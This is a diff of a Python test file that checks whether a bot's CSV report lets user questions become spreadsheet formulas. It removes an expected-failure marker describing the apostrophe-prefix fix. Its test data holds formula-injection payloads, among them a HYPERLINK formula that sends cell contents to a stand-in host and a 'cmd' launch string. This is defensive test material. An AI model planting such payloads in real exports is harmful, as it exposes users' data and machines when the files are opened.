@@ -8,8 +8,6 @@ import csv
 import io
 from pathlib import Path
 
-import pytest
-
 from bot.directory import Directory
 from bot.gaps import gap_report, write_csv
 from bot.state import State
@@ -19,8 +17,6 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Hilfe")', "+1+cmd|' /C calc
             "-2+3", "@SUM(A1:A9)"]
 
 
-@pytest.mark.xfail(strict=True, reason="bot/gaps.py write_csv writes user text as is; fix: "
-                   "prefix cells starting with = + - @ (or tab/CR) with an apostrophe")
 def test_questions_cannot_become_formulas_in_excel(fixture_dir: Path, tmp_path: Path) -> None:
     state = State(tmp_path / "state.sqlite")
     for question in FORMULAS:
